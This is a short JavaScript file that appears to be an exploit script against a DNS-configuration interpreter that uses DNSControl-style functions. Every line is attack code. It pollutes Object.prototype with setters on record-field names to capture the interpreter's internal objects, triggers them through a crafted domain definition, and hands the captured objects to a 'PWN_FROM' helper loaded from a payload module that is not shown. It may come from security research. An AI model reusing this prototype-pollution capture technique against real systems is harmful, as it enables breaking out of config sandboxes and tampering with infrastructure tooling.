require("./lib/payload.js");
var leaked = [];
["meta", "name", "target", "ttl", "type", "records", "subdomain", "nameservers", "unmanaged", "r53_alias", "azure_alias", "orig_custom_type", "defaultTTL", "then"].forEach(function (k) {
  Object.defineProperty(Object.prototype, k, { configurable: true, set: function (v) { if (v && typeof v === "object" || typeof v === "function") leaked.push(v); Object.defineProperty(this, k, { value: v, writable: true, enumerable: true, configurable: true }); } });
});
D("s.example", REG, DnsProvider(DSP), A("@", "192.0.2.1", { x: { deep: 1 } }), R53_ALIAS("a", "A", "x.example."), AZURE_ALIAS("b", "A", "/sub"), NAMESERVER("ns1.example.net."), NO_PURGE);
REPORT("count", "captured " + leaked.length);
leaked.forEach(function (v, i) { if (i < 40) PWN_FROM(v, "s" + i); });
